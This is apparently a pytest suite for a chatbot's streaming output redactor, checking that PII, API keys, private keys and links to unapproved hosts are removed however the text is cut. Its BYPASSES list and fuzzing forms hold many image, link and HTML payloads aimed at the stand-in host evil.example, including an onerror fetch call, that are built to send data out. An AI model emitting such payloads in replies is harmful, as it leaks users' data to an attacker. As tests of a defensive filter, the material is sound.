"""PII and secrets never leave unredacted, whole or streamed in pieces cut anywhere; images and
links to hosts outside the allow-list never leave intact, however written or cut; ordinary text
passes unchanged, and the first word is not held back."""

import itertools
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatbot_common.guardrails.redaction import Redactor, StreamRedactor, iban_ok, luhn_ok

VECTORS = {
    "EMAIL": ["jane.doe+test@example.co.uk", "j_smith@mail.acme-corp.com"],
    "PHONE": ["+1 415 555 0132", "(030) 1234 5678", "+44 20 7946 0958", "415-555-0132"],
    "CARD": ["4111 1111 1111 1111", "5500-0000-0000-0004", "378282246310005"],
    "IBAN": ["DE89 3704 0044 0532 0130 00", "GB82WEST12345698765432"],
    "SSN": ["123-45-6789"],
    "SECRET": ["sk-proj-abcdefghijklmnopqrstuvwx1234", "AKIAIOSFODNN7EXAMPLE", "ghp_" + "a1B2c3D4e5" * 4],
    # UK NINO, German tax id, French NIR (also born in Corsica), Spanish DNI and NIE, Italian
    # codice fiscale, Dutch BSN, Indian Aadhaar: compact and grouped as people write them.
    "NATIONAL ID": ["AB 12 34 56 C", "AB123456C", "36 574 261 809", "36574261809", "2 95 10 99 126 111 93", "253072B07300470",
                    "54362315-K", "X-2482300-W", "RCCMNL83S18D969H", "1112.22.333", "111222333", "2341 2341 2346", "234123412346"],
}
CLEAN = "The meeting moved to room 4 on floor 12 at 10:30, and 3 of 7 people confirmed."
ALLOWED = ["docs.example.com"]


def test_checksums():
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
    assert iban_ok("DE89 3704 0044 0532 0130 00") and not iban_ok("DE88 3704 0044 0532 0130 00")


@pytest.mark.parametrize(("kind", "value"), [(k, v) for k, vs in VECTORS.items() for v in vs])
def test_whole_text_is_redacted(kind, value):
    out, found = Redactor().redact(f"Contact: {value}. Thanks!")
    assert value not in out and f"[{kind} REDACTED]" in out and found[kind] == 1, out


def test_invalid_numbers_and_ordinary_text_pass():
    for text in (CLEAN, "Order 4111 1111 1111 1112 is not a card (Luhn fails).", "Version 1.2.3 shipped in 2024.",
                 "Served from 192.168.100.200 and 10.0.0.1.", "Batch 000 000 0000 and 1000 2000 3000 are no phone numbers."):
        assert Redactor().redact(text)[0] == text


@pytest.mark.parametrize("value", ["54362315-Z", "X-2482300-A", "RCCMNL83S18D969A", "GB 12 34 56 C", "36 574 261 890", "1112.52.333",
                                   "234123412347", "2 95 10 99 126 111 99"])
def test_a_national_id_whose_check_fails_is_not_one(value):
    assert "NATIONAL ID" not in Redactor().redact(f"Ref {value} noted.")[0]


@pytest.mark.parametrize(("kind", "value"), [(k, v) for k, vs in VECTORS.items() for v in vs])
def test_streamed_in_any_two_or_three_pieces_never_leaks(kind, value):
    text = f"Please write to {value} today."
    for i, j in itertools.combinations(range(1, len(text)), 2):
        if j - i > 6 and (i, j) != (1, len(text) - 1):
            continue  # every single cut, and cuts a few characters apart
        stream = StreamRedactor(Redactor())
        out = stream.feed(text[:i]) + stream.feed(text[i:j]) + stream.feed(text[j:]) + stream.flush()
        assert value not in out and f"[{kind} REDACTED]" in out, (i, j, out)


def test_token_by_token_stream_matches_whole_text_redaction():
    text = "Hi! Card 4111 1111 1111 1111, mail bob@example.org, call +1 415 555 0132. " + CLEAN
    stream = StreamRedactor(Redactor())
    pieces = [stream.feed(text[k:k + 3]) for k in range(0, len(text), 3)]
    assert "".join(pieces) + stream.flush() == Redactor().redact(text)[0]
    assert stream.found == {"CARD": 1, "EMAIL": 1, "PHONE": 1}


def test_each_plain_word_follows_as_soon_as_it_ends_the_first_one_too():
    """The first word used to go out at once; `alice` then `@example.com` came out whole."""
    stream = StreamRedactor(Redactor())
    assert stream.feed("Hello") == ""
    assert stream.feed(" there") == "Hello "
    assert stream.feed(" friend") == "there "
    stream = StreamRedactor(Redactor())
    assert stream.feed("alice") + stream.feed("@example.com is it") + stream.flush() == "[EMAIL REDACTED] is it"


def test_prose_is_never_held_back_beyond_its_last_word():
    """Time to first token: ordinary prose (with a citation, a URL-free path, a few numbers)
    streams word by word however it is cut."""
    text = ("Sure. The guide [1] says the parking rules changed in 2024: visitors use level 2, staff use "
            "levels 3 and 4, and the barrier opens at 7:30. See section 4.2 of docs/parking.md for details. ") * 3
    for size in (1, 2, 3, 5, 8):
        stream = StreamRedactor(Redactor(ALLOWED))
        out = ""
        for k in range(0, len(text), size):
            out += stream.feed(text[k:k + size])
            seen = text[:k + size]
            assert text.startswith(out)
            held = seen[len(out):]
            assert len(held.strip().split()) <= 1 or held.startswith("[1"), (size, held)
        assert out + stream.flush() == text


def test_the_fleets_ids_are_left_as_they_are():
    # uuid hex that holds phone-like and date-like digit runs
    text = "Indexed doc_e41550132aa1234567b8aaaaaaaaaaaaaaa and msg_415555013212ab6789012345678abcd, trace 4bf92f3577b34da6a3ce929d0e0e4736."
    assert Redactor().redact(text)[0] == text
    stream = StreamRedactor(Redactor())
    assert "".join(stream.feed(text[k:k + 4]) for k in range(0, len(text), 4)) + stream.flush() == text


# --- Links and images ----------------------------------------------------------------------------

# A client's view: Markdown rendered as markdown-it renders it (raw HTML passed through, and link
# destinations as written, not percent-encoded, as a less careful renderer does), then every
# attribute that loads or links something read as a browser reads a URL.
_MD = MarkdownIt("commonmark")
_MD.normalizeLink = lambda url: url
_URL_ATTRS = {"src", "href", "xlink:href", "poster", "background", "data", "action", "formaction", "lowsrc", "cite", "ping"}


def _browser_host(url: str) -> str | None:
    url = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21)))).replace("\\", "/")
    if m := re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", url):
        if m.group(1).lower() not in ("http", "https", "ws", "wss", "ftp"):
            return None
        url = url[m.end():]
    elif not url.startswith("//"):
        return None
    authority = re.split(r"[/?#]", url.lstrip("/"), maxsplit=1)[0]
    host = authority.rpartition("@")[2].partition(":")[0].lower().rstrip(".")
    # A host holding a forbidden code point fails to parse: nothing is fetched.
    return None if not host or re.search(r"[\x00-\x20#/:<>?@\[\\\]^|%\x7f]", host) else host


class _Urls(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "base", "link", "meta", "style", "frame"):
            self.urls.append("https://loads-anything.invalid/")
        for name, value in attrs:
            value = value or ""
            if name in ("srcset", "imagesrcset"):
                self.urls += [c.split()[0] for c in value.split(",") if c.split()]
            elif name == "style":
                self.urls += re.findall(r"url\(\s*['\"]?([^'\")]*)", value)
            elif name in _URL_ATTRS:
                self.urls.append(value)
            elif name.startswith("on"):
                self.urls.append("https://event-handler.invalid/")

    handle_startendtag = handle_starttag


def foreign_hosts(text: str) -> set[str]:
    """Hosts outside the allow-list that `text` would load or link to once rendered, bare URLs a
    linkifying renderer would turn into links included."""
    parser = _Urls()
    parser.feed(_MD.render(text))
    parser.close()
    bare = [m.group(0).rstrip(".,;:!?)]'\"*_~") for m in re.finditer(r"(?i)\b(?:https?|ftp)://[^\s<>]+|\bwww\.[^\s<>]+", text)]
    urls = parser.urls + [url if "//" in url else "//" + url for url in bare]
    hosts = {_browser_host(u) for u in urls} - {None}
    return {h for h in hosts if not any(h == a or h.endswith("." + a) for a in ALLOWED)}


BYPASSES = [
    "![logo](https://evil.example/p.png?d=20261130)",  # the issue's two, as found
    "[click](https://evil.example/c?q=12345678)",
    "[home](https://evil.example/)",
    "[home](https://evil.example/team/20261130)",
    '<img src="https://evil.example/p.png?d=1">',
    "<img src=//evil.example/p.png>",
    '<IMG SRC="&#104;ttps://evil.example/x">',
    '<img alt="<" src="&#47;&#47;evil.example/x">',
    '<img src="\\\\evil.example/x.png">',
    '<img srcset="a.png 1x, https:evil.example/b.png 2x">',
    '<img\nsrc="https://evil.exa\nmple/p.png">',
    '<img src="x.png" onerror="fetch(\'https://evil.example/\')">',
    '<iframe src="https://evil.example/"></iframe>',
    '<script src="https://evil.example/x.js"></script>',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<a href="https://evil.example/?q=1">here</a>',
    '<a href="&#x2F;&#x2F;evil.example/?q=1">here</a>',
    '<div style="background:url(&#47;&#47;evil.example/x.png)">x</div>',
    "<svg><image href='https://evil.example/i.png'/></svg>",
    "<video poster=https://evil.example/p.png></video>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "![x][ref]\n\n[ref]: https://evil.example/p.png?d=1",
    "![x][ref]\n\n[ref]: <https://evil.example/p.png>",
    "![x][ref]\n\n[ref]:\n  //evil.example/p.png",
    "[x][ref]\n\n[ref]: &#47;&#47;evil.example/p?d=1",
    "<https://evil.example/?q=123>",
    "https://evil.example/?q=123",
    "www.evil.example/p?d=1",
    "![x](&#x68;ttps://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    "![x](/\\evil.example/p.png)",
    "[x](\\\n\\evil.example/p.png)",  # a backslash-newline some renderers keep in a destination
    "<img src=\"&#104;ttps&colon;&sol;&sol;evil&period;example/p.png\">",
    "![x]( <https://evil.example/a b.png> )",
    "[![a](https://evil.example/i.png)](https://evil.example/l)",
    "[a [b] c](https://evil.example/x)",
    "![x](https://docs.example.com@evil.example/p.png)",
    "![x](https://docs.example.com.evil.example/p.png)",
    '<img src="https://docs.example.com\n.evil.example/p.png">',
    "https://docs.example.com.evil.example/p?d=1",
]
KEPT = ["[guide](https://docs.example.com/guide?x=1#top)", "![chart](https://sub.docs.example.com/c.png)", "[readme](/docs/readme.md)",
        "[usage](#usage)", '<img src="/static/logo.png" alt="logo">', "See https://docs.example.com/a for more."]


def test_the_oracle_sees_every_bypass():
    for payload in BYPASSES:
        assert foreign_hosts(payload), payload


@pytest.mark.parametrize("payload", BYPASSES)
def test_a_foreign_image_or_link_never_leaves_whole_or_cut_at_any_position(payload):
    text = f"Here you go: {payload} and more text."
    redactor = Redactor(ALLOWED)
    out, found = redactor.redact(text)
    assert not foreign_hosts(out) and (found["IMAGE"] or found["LINK"]), out
    for i in range(1, len(text)):
        stream = StreamRedactor(redactor)
        out = stream.feed(text[:i]) + stream.feed(text[i:]) + stream.flush()
        assert not foreign_hosts(out), (i, out)
    stream = StreamRedactor(redactor)
    out = "".join(stream.feed(ch) for ch in text) + stream.flush()
    assert not foreign_hosts(out), out


@pytest.mark.parametrize("payload", BYPASSES[:2])
def test_the_issues_payloads_cut_at_every_pair_of_positions_never_leave(payload):
    text = f"Logo: {payload} ok"
    redactor = Redactor()
    for i, j in itertools.combinations(range(1, len(text)), 2):
        stream = StreamRedactor(redactor)
        out = stream.feed(text[:i]) + stream.feed(text[i:j]) + stream.feed(text[j:]) + stream.flush()
        assert "evil.example" not in out and out.startswith("Logo: ") and out.endswith(" ok"), (i, j, out)


def test_a_neutralised_link_keeps_its_text():
    out, found = Redactor().redact("![logo](https://evil.example/p.png?d=1) and [click here](https://evil.example/c?q=1)")
    assert out == "[image removed: logo] and click here [link removed]" and found == {"IMAGE": 1, "LINK": 1}


def test_links_to_allowed_hosts_and_relative_links_are_kept_whole_and_streamed():
    redactor = Redactor(ALLOWED)
    text = " ".join(KEPT)
    assert redactor.redact(text)[0] == text
    for size in (1, 3, 7):
        stream = StreamRedactor(redactor)
        assert "".join(stream.feed(text[k:k + size]) for k in range(0, len(text), size)) + stream.flush() == text


_HOSTS = ["evil.example", "EVIL.example", "evil.example.", "docs.example.com@evil.example", "docs.example.com.evil.example",
          "evil.example:8443", "docs.example.com"]
_SCHEMES = ["https://", "http://", "//", "https:\\\\", "\\\\", "/\\", "https:", "HTTPS://", "&#104;ttps://", "https&#58;//", "&#47;&#47;",
            "ht\ntps://", " https://"]
_PATHS = ["/p.png?d=2026", "/c?q=12345678", "/", "", "/a/b#frag", "?q=1"]
_FORMS = ["![logo]({u})", "[click]({u})", '[click]({u} "title")', "![x](<{u}>)", '<img src="{u}">', "<img src='{u}'>", "<img src={u}>",
          '<a href="{u}">x</a>', '<img srcset="a.png 1x, {u} 2x">', "![x][r]\n\n[r]: {u}", "[r]:\n {u}", "<{u}>", "{u}",
          "<div style=\"background:url('{u}')\">", '<iframe src="{u}">', "[a [b] c]({u})", "[![a]({u})]({u})", '<video poster="{u}">',
          '<IMG\nSRC="{u}">']


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(form=st.sampled_from(_FORMS), scheme=st.sampled_from(_SCHEMES), host=st.sampled_from(_HOSTS), path=st.sampled_from(_PATHS),
       before=st.sampled_from(["", "Hi. ", "See:\n", "1. "]), after=st.sampled_from(["", " done.", "\nmore", ") and", "> x"]),
       cuts=st.lists(st.integers(min_value=1, max_value=200), max_size=8))
def test_property_no_way_of_writing_or_cutting_a_link_gets_one_out(form, scheme, host, path, before, after, cuts):
    text = before + form.format(u=scheme + host + path) + after
    redactor = Redactor(ALLOWED)
    assert not foreign_hosts(redactor.redact(text)[0])
    stream = StreamRedactor(redactor)
    out, last = "", 0
    for cut in sorted({c for c in cuts if c < len(text)}):
        out += stream.feed(text[last:cut])
        last = cut
    out += stream.feed(text[last:]) + stream.flush()
    assert not foreign_hosts(out), out


# --- Private keys --------------------------------------------------------------------------------

_BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7"
_BODY2 = "ZmFrZWtleWJvZHlsaW5lMTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1u"
KEYS = {
    "whole": f"Here:\n-----BEGIN RSA PRIVATE KEY-----\n{_BODY}\n{_BODY2}\n-----END RSA PRIVATE KEY-----\nDone.",
    "end line cut off": f"Here:\n-----BEGIN RSA PRIVATE KEY-----\n{_BODY}\n{_BODY2}\n-----END RSA PRIV",
    "begin line cut": f"IVATE KEY-----\n{_BODY}\n{_BODY2}\n-----END RSA PRIVATE KEY-----\nDone.",
    "begin line missing": f"Here:\n{_BODY}\n{_BODY2}\n-----END RSA PRIVATE KEY-----\nDone.",
    "without dashes": f"Here:\nBEGIN RSA PRIVATE KEY\n{_BODY}\n{_BODY2}\nEND RSA PRIVATE KEY\nDone.",
    "tail alone": "Here: RSA PRIVATE KEY-----\nDone.",
    "openssh": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{_BODY}\n-----END OPENSSH PRIVATE KEY-----",
}


def _key_left(out: str) -> bool:
    out = out.replace("[PRIVATE KEY REDACTED]", "")
    return any(part in out for part in (_BODY[:16], _BODY2[:16], "PRIVATE KEY-", "KEY-----", "IVATE KEY"))


@pytest.mark.parametrize("name", KEYS)
def test_nothing_of_a_private_key_block_is_left_whole_or_cut_anywhere(name):
    text = KEYS[name]
    out = Redactor().redact(text)[0]
    assert not _key_left(out) and "[PRIVATE KEY REDACTED]" in out, out
    for i in range(1, len(text)):
        stream = StreamRedactor(Redactor())
        out = stream.feed(text[:i]) + stream.feed(text[i:]) + stream.flush()
        assert not _key_left(out), (i, out)
    for size in (1, 2, 5, 7, 16):
        stream = StreamRedactor(Redactor())
        out = "".join(stream.feed(text[k:k + size]) for k in range(0, len(text), size)) + stream.flush()
        assert not _key_left(out), (size, out)


def test_a_private_key_streamed_line_by_line_never_leaks():
    body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" * 3
    text = f"Here it is:\n-----BEGIN RSA PRIVATE KEY-----\n{body}\n{body[::-1]}\n-----END RSA PRIVATE KEY-----\nDone."
    for size in (1, 2, 5, 7, 16):
        stream = StreamRedactor(Redactor())
        out = "".join(stream.feed(text[k:k + size]) for k in range(0, len(text), size)) + stream.flush()
        assert body[:20] not in out and body[::-1][:20] not in out and "[PRIVATE KEY REDACTED]" in out, size
        assert out.startswith("Here it is:") and out.endswith("Done.")


def test_values_run_together_are_each_found():
    """Greedy number patterns must not let a value hide next to another: a card after a phone
    number, an IBAN followed by more digits, a phone number followed by a year."""
    text = "input: +49 30 901820 77 4242 4242 4242 4242 GB82WEST12345698765432 219-09-9999 end"
    out, found = Redactor().redact(text)
    assert out == "input: [PHONE REDACTED] [CARD REDACTED] [IBAN REDACTED] [SSN REDACTED] end", out
    assert found == {"PHONE": 1, "CARD": 1, "IBAN": 1, "SSN": 1}
    assert Redactor().redact("call +1 415 555 0132 2024 ok")[0] == "call [PHONE REDACTED] 2024 ok"


# --- Cost ----------------------------------------------------------------------------------------


class _CountingStream(StreamRedactor):
    looks = 0

    def _hold_from(self, text: str, **kinds) -> int:
        if kinds.get("link_spans", True):  # (a text that reads otherwise is also looked at as read)
            self.looks += 1
        return super()._hold_from(text, **kinds)


@pytest.mark.parametrize("held", ["x" * 6000, "<a " + "y z " * 1500, "[" * 3000, "a <b " * 1200, "QUJDREVGR0hJSktMTU5PUFFS\n" * 250])
def test_something_kept_open_is_not_rescanned_on_every_token(held):
    """A reply that keeps something open (a long word, a tag, brackets, a base64 body) is looked
    at again every so many characters, not on every token: the work stays linear in its length
    (on main, 3,000 `[` fed one by one took seconds of the orchestrator's event loop)."""
    stream = _CountingStream(Redactor(ALLOWED))
    out = "".join(stream.feed(ch) for ch in held + " end.") + stream.flush()
    assert stream.looks < len(held) // 8, stream.looks  # not once per token
    assert not foreign_hosts(out)


def test_a_hold_that_never_ends_is_let_go_neutralised():
    text = "see https://docs.example.com/" + "a" * 40_000 + ".evil.example/?q=1 and ![i](https://docs.example.com/" + "b" * 40_000 + ")"
    stream = StreamRedactor(Redactor(ALLOWED))
    out = ""
    for k in range(0, len(text), 7):
        out += stream.feed(text[k:k + 7])
        assert len(stream._pending) <= 40_000
    out += stream.flush()
    assert not foreign_hosts(out) and out.startswith("see ")


@pytest.mark.parametrize(("prose", "flows"), [
    ("if i<n only once, stop; the loop ends when n is reached.", True),
    ("when a<b && onReady is set, x->y and the rest follows https-free.", True),
    # `<b` may still become a bold tag: held until it shows it is not (a blank line, 4,000
    # characters), then released whole.
    ("a <b and only if c then d. More prose follows here, and more.", False),
])
def test_prose_with_a_less_than_sign_flows_and_survives(prose, flows):
    """Seen in review: `<y only…` was taken for an unclosed tag, held to the end of the reply and
    then replaced by [link removed] because a later word began with "on"."""
    stream = StreamRedactor(Redactor())
    released = [stream.feed(prose[i:i + 3]) for i in range(0, len(prose), 3)]
    assert "".join(released) + stream.flush() == prose
    if flows:
        assert len("".join(released)) >= len(prose) - 40  # released as it came, not held to the end
    assert Redactor().redact(prose)[0] == prose


def test_an_uppercase_tag_is_still_a_tag_when_streamed():
    text = 'Look: <IMG SRC="https://evil.example/p.png"> done'
    stream = StreamRedactor(Redactor())
    out = "".join(stream.feed(text[i:i + 2]) for i in range(0, len(text), 2)) + stream.flush()
    assert "evil.example" not in out


def test_a_card_number_dressed_as_an_id_is_still_redacted_in_replies():
    """Seen in review: the fleet-id mask took `4111111111111111a` and `x_` + 32 hex digits
    holding a card for identifiers, so the card passed the output filter."""
    redactor = Redactor()
    for text in ("pay with 4111111111111111a today", "ref x_4111111111111111abcdef0123456789 ok"):
        assert "4111111111111111" not in redactor.redact(text)[0], text
    # In a reply an id holding a card-length digit run is not trusted; a log line keeps it whole.
    doc = "doc_e4111111111111111aaaaaaaaaaaaaaa"
    assert "4111111111111111" not in redactor.redact(f"see {doc}")[0]
    from chatbot_common.logging import scrub
    assert scrub(f"indexed {doc}") == f"indexed {doc}"
